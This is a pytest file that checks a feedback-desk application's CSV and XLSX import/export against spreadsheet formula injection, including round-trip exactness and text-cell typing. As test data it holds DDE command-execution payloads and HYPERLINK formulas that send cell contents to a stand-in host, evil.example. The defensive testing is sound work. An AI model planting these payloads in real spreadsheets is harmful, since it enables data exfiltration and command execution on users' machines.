"""Adversarial tests of spreadsheet import/export, part 1: formula injection both ways and the
exact round trip of hostile values (see also ``test_attacks_*.py``).

What a spreadsheet really runs: Excel and LibreOffice take a cell for a formula when its FIRST
character is ``=``, ``+``, ``-`` or ``@`` (``+``/``-``/``@`` are rewritten to ``=``…), and a
leading tab or CR can hide one; DDE payloads (``=cmd|' /C calc'!A0``) need the ``=``. A
full-width ``＝`` (U+FF1D) is text to both (only an IME turns it into ``=`` while typing), so it
is left as it is. In XLSX a formula exists only as a formula cell (``<f>``, data type "f"):
a string cell is never evaluated, but it must really be a string cell.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from feedback_desk.core.db.engine import open_database
from feedback_desk.core.dto import EntryQuery
from feedback_desk.core.interchange.values import FORMULA_START
from feedback_desk.core.services import Services

from ...core.conftest import new_entry
from .attacks_support import EVENT, HEAD, read_csv, row, write_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already-quoted",
    "＝1+1 (full width)",
)
USERNAMES = ("=cmd|calc!A0", "+62811", "-1+1", "@SUM(A1)")


def _hostile_rows() -> list[dict[str, str]]:
    """Every text column (event, session, text, summary, recorded_by, personal fields) carries a
    formula payload."""
    out = []
    for i, payload in enumerate(HOSTILE):
        out.append(row(
            i, event=f"{payload} ev" if i % 2 else EVENT, session=payload, text=payload,
            summary=payload, recorded_by=USERNAMES[i % len(USERNAMES)], contact_consent="ya",
            speaker_name=payload, speaker_phone="+62 811 " + str(1000 + i),
            speaker_nik="=" + "3" * 15, speaker_passport="-X" + str(i), speaker_kpj="@" + str(i)))
    return out


HEAD_S = HEAD + ("summary",)


def _import(svc: Services, path: Path) -> None:
    preview = svc.interchange.preview(path)
    assert preview.can_import_all, [(r.number, [m.text() for m in r.problems])
                                    for r in preview.rows if r.problems]
    svc.interchange.commit(preview)


def _assert_csv_inert(path: Path) -> None:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    for record in read_csv(path):
        for column, value in record.items():
            assert not value.startswith(FORMULA_START), (column, value)


def _assert_xlsx_inert(path: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(path)  # not read-only: data_type of every cell
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_cells_are_exported_inert_in_every_column(svc: Services, event: object,
                                                          tmp_path: Path, suffix: str) -> None:
    _import(svc, write_csv(tmp_path / "in.csv", _hostile_rows(), HEAD_S))
    target = tmp_path / f"out{suffix}"
    result = svc.interchange.export(target, EntryQuery(), personal=True)
    assert result.rows == len(HOSTILE)
    if suffix == ".csv":
        _assert_csv_inert(target)
    else:
        _assert_xlsx_inert(target)
    blob = "\n".join(v for r in _table(target) for v in r.values())
    for payload in HOSTILE[:5]:  # every payload is there, behind its guard quote
        assert "'" + payload in blob
    assert "'=cmd|calc!A0" in blob and "'=" + "3" * 15 in blob  # recorded_by, NIK


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_values_survive_the_round_trip_exactly(svc: Services, event: object, clock: Any,
                                                       tmp_path: Path, suffix: str) -> None:
    """import → export → import into an empty database → export: the same table."""
    _import(svc, write_csv(tmp_path / "in.csv", _hostile_rows(), HEAD_S))
    first = tmp_path / f"first{suffix}"
    svc.interchange.export(first, EntryQuery(), personal=True)
    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite'}")
    try:
        them = Services.connect(other, "sari", roles="supervisor protection", clock=clock)
        _import(them, first)
        second = tmp_path / f"second{suffix}"
        them.interchange.export(second, EntryQuery(), personal=True)
    finally:
        other.dispose()
    assert _table(first) == _table(second)
    texts = {r["text"] for r in _table(first)}
    # a file's "'=x" is the guarded "=x" (stored so), exported guarded again
    assert {"'" + p if p[0] in "=+-@" else p for p in HOSTILE} == texts


def _table(path: Path) -> list[dict[str, str]]:
    if path.suffix == ".csv":
        return read_csv(path)
    from openpyxl import load_workbook

    values = list(load_workbook(path).active.iter_rows(values_only=True))
    return [{h: ("" if v is None else str(v)) for h, v in zip(values[0], r, strict=True)}
            for r in values[1:]]


def test_reimport_of_own_export_finds_every_entry_unchanged(svc: Services, event: object,
                                                            tmp_path: Path) -> None:
    """Export, then import the file into the SAME database: every row is "present" and no
    stored copy "differs" (what the file says equals what is stored, to the character)."""
    _import(svc, write_csv(tmp_path / "in.csv", _hostile_rows(), HEAD_S))
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery(), personal=True)
    preview = svc.interchange.preview(target)
    assert preview.count("present") == len(HOSTILE)
    assert [(r.number, n.text()) for r in preview.rows for n in r.notes
            if n.code == "stored_differs"] == []


def test_double_quote_prefix_survives_the_round_trip(svc: Services, event, tmp_path: Path
                                                     ) -> None:  # type: ignore[no-untyped-def]
    svc.entries.record(new_entry(event.id, text="''=1+1 is how Excel escapes it",
                                 summary="''+62 nomor"))
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery())
    preview = svc.interchange.preview(target)
    notes = [n.text() for r in preview.rows for n in r.notes]
    assert not [n for n in notes if "differs" in n], notes
    assert preview.prepared == () and preview.count("present") == 1


def test_formula_cells_of_an_xlsx_are_stored_as_their_literal_text(svc: Services, event: object,
                                                                   tmp_path: Path) -> None:
    """A real formula cell (data type "f", with a cached value) is imported as the formula's
    text, never as what it computed; CSV "=…" likewise."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["recorded_at", "event", "kind", "service_area", "text"])
    sheet.append(["16/11/2026 08:00", EVENT, "complaint", "overseas", '=HYPERLINK("http://x","y")'])
    sheet.append(["16/11/2026 08:01", EVENT, "complaint", "overseas", "=1+1"])
    assert sheet["E2"].data_type == "f"
    book.save(tmp_path / "f.xlsx")
    _import(svc, tmp_path / "f.xlsx")
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery(), sort="recorded_at", descending=False)
    assert [r["text"] for r in read_csv(target)] == ["'=HYPERLINK(\"http://x\",\"y\")", "'=1+1"]


def test_xlsx_personal_cells_written_as_text_not_numbers(svc: Services, event: object,
                                                         tmp_path: Path) -> None:
    """A NIK or phone must stay text in XLSX (a number cell loses leading zeros and digits
    beyond 15)."""
    _import(svc, write_csv(tmp_path / "in.csv", [row(1, contact_consent="yes",
                                                     speaker_nik="0012345678901234567",
                                                     speaker_phone="081234567890")]))
    target = tmp_path / "out.xlsx"
    svc.interchange.export(target, EntryQuery(), personal=True)
    from openpyxl import load_workbook

    cells = {c.value: c.data_type for r in load_workbook(target).active.iter_rows() for c in r}
    assert cells["0012345678901234567"] == "s" and cells["081234567890"] == "s"


def test_xlsx_export_writes_every_value_as_a_string_cell(svc: Services, event, tmp_path: Path
                                                         ) -> None:  # type: ignore[no-untyped-def]
    svc.entries.record(new_entry(event.id, text="#N/A", summary="#REF!"))
    target = tmp_path / "out.xlsx"
    svc.interchange.export(target, EntryQuery())
    from openpyxl import load_workbook

    types = {(c.value, c.data_type) for r in load_workbook(target).active.iter_rows() for c in r
             if c.value is not None}
    assert {t for _v, t in types} == {"s"}, sorted(types, key=str)


def test_xlsx_export_of_xml_forbidden_characters_is_a_readable_workbook(
        svc: Services, event: object, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "nc.csv", [row(1, text="tanda \uffff aneh \ufffe di sini",
                                               summary="ringkas \uffff")], HEAD_S)
    _import(svc, path)  # import removes them (noted) …
    assert "\uffff" not in svc.entries.get(svc.search.ids(EntryQuery())[0]).text
    svc.entries.record(new_entry(event.id, text="tanda \uffff aneh \ufffe di sini",
                                 summary="ringkas \uffff"))  # … but recording keeps them
    target = tmp_path / "out.xlsx"
    result = svc.interchange.export(target, EntryQuery())
    from openpyxl import load_workbook

    load_workbook(target)  # Excel and our own reader refuse a workbook that is not XML
    assert svc.interchange.preview(target).count("present") == 2
    assert result.replaced_characters == 3


def test_event_and_session_names_with_double_spaces_round_trip(
        svc: Services, tmp_path: Path) -> None:
    ev = svc.catalog.create_event("Simposium  PMI   2026")
    panel = svc.catalog.create_session(ev.id, "Panel  1")
    svc.entries.record(new_entry(ev.id, session_id=panel.id))
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery())
    preview = svc.interchange.preview(target)
    assert preview.events_to_create == () and preview.sessions_to_create == ()
    assert [n.text() for r in preview.rows for n in r.notes] == []


def test_csv_read_with_a_semicolon_list_separator_has_no_formula_cell(
        svc: Services, event, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Excel opens a .csv with the system's list separator: ';' in Indonesia (INTERCHANGE.md).
    ``csv.reader(delimiter=';')`` reads it the same way: a quote counts only at a cell's start,
    so our quotes around 'a,b' do not protect a ';' or a line break inside."""
    import csv

    for i, text in enumerate(['Lihat;=HYPERLINK("http://evil.example/?"&A1&M1,"info")',
                              "baris satu\n=1+1", "a;+SUM(1)", "x;@SUM(1)"]):
        svc.entries.record(new_entry(event.id, text=text, summary=f"s{i}"))
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery(), personal=True)
    with open(target, encoding="utf-8-sig", newline="") as handle:
        cells = [c for r in csv.reader(handle, delimiter=";") for c in r]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


@pytest.mark.parametrize("boundary", ["=1+1", "'=1+1", "  spaces", "@x", "\n=2"],
                         ids=["formula", "quoted", "spaces", "at", "newline"])
def test_a_long_text_split_over_xlsx_cells_comes_back_whole(
        svc: Services, event, clock: Any, tmp_path: Path,  # type: ignore[no-untyped-def]
        boundary: str) -> None:
    """Every continuation cell (text_2…) starts with something hostile; the text, 100,000
    characters with astral ones, is the same after export → import into an empty database."""
    from feedback_desk.core.interchange.columns import XLSX_PART

    chunks = ["awal " + "𝔸" * (XLSX_PART - 5)]
    chunks += [boundary + "ü" * (XLSX_PART - len(boundary)) for _ in range(6)]
    text = "".join(chunks)[:100_000 - 1] + "."
    assert all(text[k * XLSX_PART:].startswith(boundary) for k in range(1, 7))
    svc.entries.record(new_entry(event.id, text=text))
    target = tmp_path / "long.xlsx"
    result = svc.interchange.export(target, EntryQuery())
    assert result.over_excel_limit == 1
    _assert_xlsx_inert(target)
    (cells,) = _table(target)
    guarded = "'" + boundary if boundary[0] in "=@'" else boundary
    assert {cells[f"text_{n}"][:len(guarded)] for n in range(2, 8)} == {guarded}
    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite'}")
    try:
        them = Services.connect(other, "sari", roles="supervisor protection", clock=clock)
        _import(them, target)
        (entry,) = them.search.rows(them.search.ids(EntryQuery()))
        assert them.entries.get(entry.id).text == text
    finally:
        other.dispose()
